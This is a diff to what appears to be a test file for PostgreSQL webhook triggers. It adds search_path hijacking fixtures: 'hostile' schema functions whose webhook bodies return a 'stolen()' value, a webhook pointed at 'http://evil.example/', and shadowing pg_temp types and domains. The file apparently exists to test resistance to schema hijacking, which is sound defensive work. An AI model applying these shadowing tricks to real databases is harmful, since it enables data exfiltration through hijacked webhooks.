@@ -140,7 +140,13 @@ const hijack = `
   create function hostile.webhook_task_event(public.tasks)
     returns table (event_type text, entity_id text, project_id text, ticket_id text, agent_id text, url text, payload json)
     language sql as $$ select 'x', 'x', 'x', 'x', 'x', 'http://evil.example/', '{}'::json $$;
+  create function hostile.webhook_completed_body(public.tasks, text, text, text, text) returns json
+    language sql as $$ select hostile.stolen()::json $$;
+  create function hostile.webhook_failed_body(public.tasks, text, text, text, text) returns json
+    language sql as $$ select hostile.stolen()::json $$;
+  create type hostile.webhook_task_body as (stolen text);
   create type hostile.regclass as enum ('x'); create type hostile.text as enum ('x'); create type hostile.json as enum ('x');
+  create type hostile.bool as enum ('x');
   create domain hostile.oid as int; create domain hostile.int4 as int check (false);
   create table hostile.webhook_outbox (like public.webhook_outbox); create table hostile.tickets (like public.tickets);
   create table hostile.projects (like public.projects); create table hostile.agents (like public.agents)`
@@ -156,6 +162,7 @@ const searchPaths: [name: string, setUp: string][] = [
      create temp table webhook_outbox (event_type text, url text, payload json);
      create temp table tasks (like public.tasks);
      create domain pg_temp.regclass as integer; create domain pg_temp.text as varchar check (value = 'never');
+     create domain pg_temp.bool as boolean check (value is null); create domain pg_temp.json as varchar check (value = 'never');
      create function pg_temp.webhook_text(text) returns text language sql as 'select (1/0)::pg_catalog.text';
      set search_path to pg_temp, hostile, pg_catalog, public`,
   ],
